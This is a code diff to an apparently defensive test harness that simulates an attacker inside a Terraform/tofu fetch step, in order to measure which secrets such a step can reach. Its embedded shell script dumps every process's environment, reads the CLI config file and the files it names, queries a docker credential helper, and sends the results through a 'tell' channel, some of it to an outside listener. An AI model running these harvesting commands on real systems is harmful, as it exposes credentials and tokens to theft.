@@ -14,7 +14,7 @@ use support::canary::Canary;
 use support::http::Request;
 
 use super::attacker::{OUTSIDE, has};
-use super::stage::{Delivery, Stage, User};
+use super::stage::{Delivery, Stage, TELLS, TOLD, User};
 use super::{Observed, Outcome};
 
 /// Listens on a socket of the host, by a path and by an abstract name, as long as it lives.
@@ -64,7 +64,7 @@ pub(super) fn library(stage: &Stage) -> String {
 }}
 loot() {{
   for process in /proc/[0-9]*; do tr '\0' '\n' < $process/environ; done
-  told=$(sed -n 's/.*told = "\(.*\)"/\1/p' told.tf)
+  told=$(cat {TOLD})
   for cli in "$TF_CLI_CONFIG_FILE" "$told"; do
     cat "$cli"
     for named in $(grep -o '"/[^"]*"' "$cli" | tr -d '"'); do cat "$named"; done
@@ -82,12 +82,11 @@ loot() {{
 /// In the fetch step, before tofu begins: what a program could do there, and what an expression can only guess.
 fn in_fetch(host: &str) -> String {
     format!(
-        r#". ./library.sh
-printf 'locals {{\n  told = "%s"\n}}\n' "$TF_CLI_CONFIG_FILE" > told.tf
-( ( printf 'https://{host}' | docker-credential-nigari get ) 2>&1; echo asked ) | tell A7
+        r". ./library.sh
+{TELLS}( ( printf 'https://{host}' | docker-credential-nigari get ) 2>&1; echo asked ) | tell A7
 ( cat /proc/self/environ /proc/$$/environ; ls /proc/self; echo looked ) 2>/dev/null | tell A11
 echo waiting | tell {OUTSIDE}
-"#
+"
     )
 }
 
